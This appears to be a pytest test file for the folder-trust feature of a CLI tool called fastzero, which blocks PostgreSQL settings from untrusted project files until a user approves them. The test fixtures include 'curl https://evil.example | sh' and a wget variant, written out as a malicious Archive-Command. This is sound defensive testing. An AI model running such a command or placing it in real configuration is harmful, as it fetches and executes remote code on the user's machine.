"""fastzero trust: a folder's harmful settings are shown, and count once the user agrees."""

import json
from pathlib import Path

import pytest

from .conftest import Run
from .shell import Terminal

TOML = """\
project = "demo"

[postgres_settings]
Archive-Command = "curl https://evil.example | sh"
"""
REFUSING = [
    ["up"], ["up", "--dry-run"], ["down"], ["down", "--volumes", "--yes"], ["status"], ["ls"], ["env"], ["logs"],
    ["doctor"], ["exec", "database", "true"], ["serve"], ["migrate"], ["migrate", "status"], ["db", "backup"],
    ["db", "url"], ["user", "list"], ["todo", "list"], ["todo", "add", "one"], ["export", "compose"],
    ["secret", "rotate"],
]  # fmt: skip


@pytest.fixture(autouse=True)
def untrusted() -> None:
    Path("fastzero.toml").write_text(TOML)


@pytest.mark.parametrize("words", REFUSING, ids=" ".join)
def test_every_command_that_would_use_them_refuses(words: list[str], fastzero: Run) -> None:
    refused = fastzero(*words)
    assert (refused.code, refused.out) == (5, "")
    assert refused.err.splitlines() == [
        "Error: this folder is not trusted, and sets postgres_settings.Archive-Command (fastzero.toml:4)",
        "Hint: Review what they could do, and trust them if you know the folder: fastzero trust",
        "More: fastzero docs folder_not_trusted",
    ]


@pytest.mark.parametrize(
    "words", [["config"], ["version"], ["trust", "--show"], ["--help"], ["todo", "list", "--help"]]
)
def test_what_only_shows_does_not_refuse(words: list[str], fastzero: Run) -> None:
    assert fastzero(*words).code == 0


def test_config_tells_whether_a_value_is_trusted(fastzero: Run) -> None:
    def row(name: str) -> tuple[str, bool | None]:
        rows = json.loads(fastzero("config", "-o", "json").out)
        return next((each["source"], each["trusted"]) for each in rows if each["name"] == name)

    assert (row("project"), row("timeout")) == (("fastzero.toml", None), ("default", None))
    assert row("postgres_settings") == ("fastzero.toml", False)
    fastzero("trust", "--yes")
    assert row("postgres_settings") == ("fastzero.toml", True)


def test_a_person_is_shown_everything_and_asked(fastzero: Run) -> None:
    with Terminal("trust") as terminal:
        terminal.wait_for("is not trusted")
        terminal.wait_for('fastzero.toml:4  postgres_settings.Archive-Command = "curl https://evil.example | sh"')
        terminal.wait_for("PostgreSQL runs the command or loads the library that it names.")
        terminal.wait_for("Go on?")
        terminal.type("y\n")
        assert terminal.end().code == 0
    assert fastzero("ls").code == 0


def test_a_no_changes_nothing(fastzero: Run) -> None:
    with Terminal("trust") as terminal:
        terminal.wait_for("Go on?")
        terminal.type("n\n")
        assert terminal.end().code == 1
    assert fastzero("ls").code == 5


@pytest.mark.parametrize("words", [[], ["--no-input"]])
def test_where_nobody_can_be_asked_nothing_is_trusted_without_yes(words: list[str], fastzero: Run) -> None:
    refused = fastzero("trust", *words)
    assert (refused.code, refused.out) == (2, "")
    assert "Hint: Confirm it: --yes" in refused.err
    assert "postgres_settings.Archive-Command" in refused.err
    assert fastzero("ls").code == 5

    assert fastzero("trust", *words, "--yes").code == 0
    assert fastzero("ls").code == 0


def test_quiet_does_not_hide_what_is_asked(fastzero: Run) -> None:
    assert "postgres_settings.Archive-Command" in fastzero("-q", "trust").err


def test_a_value_is_shown_whole_and_without_what_cannot_be_seen(fastzero: Run) -> None:
    padding = " " * 500
    Path("fastzero.toml").write_text(f'home = "\\u202e\\u001b[2Jx{padding}y"\n')
    shown = fastzero("trust", "--show", terminal=80).out
    assert f'home = "\\u202e\\u001b[2Jx{padding}y"' in shown


def test_what_changed_is_shown_beside_what_was_trusted(fastzero: Run) -> None:
    fastzero("trust", "--yes")
    Path("fastzero.toml").write_text(TOML.replace("curl https", "wget http") + 'log_destination = "syslog"\n')
    shown = fastzero("trust", "--show", terminal=80).out
    assert "has changed since you trusted it" in shown
    assert 'wget http://evil.example | sh"  (changed, was "curl https://evil.example | sh")' in shown
    assert 'log_destination = "syslog"  (new)' in shown
    refused = fastzero("up")
    assert refused.code == 5
    assert "has changed since you trusted it" in refused.err


def test_what_is_removed_is_shown_as_well(fastzero: Run) -> None:
    Path("fastzero.toml").write_text(f'postgres_image = "a:18"\n{TOML}')
    fastzero("trust", "--yes")
    Path("fastzero.toml").write_text(TOML)
    assert "removed: postgres_image" in fastzero("trust", "--show", terminal=80).out


def test_trusting_twice_is_trusting_once(fastzero: Run) -> None:
    fastzero("trust", "--yes")
    assert fastzero("trust").code == 0


def test_revoking_makes_the_folder_untrusted(fastzero: Run) -> None:
    fastzero("trust", "--yes")
    assert fastzero("trust", "--revoke").code == 0
    assert fastzero("ls").code == 5
    assert "was not trusted" in fastzero("trust", "--revoke").err


def test_json_has_the_state_and_every_field(fastzero: Run) -> None:
    shown = json.loads(fastzero("trust", "--show", "-o", "json").out)
    assert shown == {
        "folder": str(Path.cwd()),
        "state": "untrusted",
        "trusted": False,
        "settings": [
            {
                "name": "postgres_settings.Archive-Command",
                "value": "curl https://evil.example | sh",
                "file": "fastzero.toml",
                "line": 4,
                "risk": "PostgreSQL runs the command or loads the library that it names",
                "change": "",
                "before": [],
            }
        ],
        "removed": [],
    }
    assert json.loads(fastzero("trust", "--yes", "-o", "json").out)["state"] == "trusted"


def test_a_folder_with_nothing_harmful_says_so(fastzero: Run) -> None:
    Path("fastzero.toml").write_text('project = "demo"\n')
    result = fastzero("trust")
    assert (result.code, result.out, result.err) == (0, "", "Nothing in this folder needs trust.\n")


def test_continuous_integration_trusts_by_the_environment(fastzero: Run, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("FASTZERO_TRUST", "1")
    assert fastzero("ls").code == 0


# -- the proofs of the review ----------------------------------------------------------------------------------


@pytest.mark.slow
def test_no_command_of_a_cloned_folder_runs_at_up(folder: Path, fastzero: Run) -> None:
    evil = folder / "evil"
    Path("fastzero.toml").write_text(f"[postgres_settings]\nssl_passphrase_command = 'touch {evil}'\nssl = 'on'\n")
    assert fastzero("up").code == 5
    assert not evil.exists()


@pytest.mark.parametrize("name", ["LISTEN_ADDRESSES", "listen-addresses", "Config_File"])
def test_no_spelling_opens_the_database_to_the_network_even_where_it_is_trusted(name: str, fastzero: Run) -> None:
    Path("fastzero.toml").write_text(f"[postgres_settings]\n{name} = '*'\n")
    fastzero("trust", "--yes")
    refused = fastzero("up")
    assert refused.code == 2
    assert "set by fastzero and cannot be changed" in refused.err


def test_a_committed_project_deletes_no_other_folder(
    folder: Path, fastzero: Run, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.delenv("FASTZERO_HOME")
    (folder / "precious").mkdir()
    Path(".env").write_text("FASTZERO_HOME=.fz\n")
    project = Path(".fz/projects/demo")
    project.mkdir(parents=True)
    record = {"runtime": "embedded", "data": str(folder / "precious"), "initialised": True}
    (project / "project.json").write_text(json.dumps(record))
    refused = fastzero("down", "--volumes", "--yes")
    assert refused.code == 5
    assert "home (.env:1)" in refused.err
    assert (folder / "precious").exists()
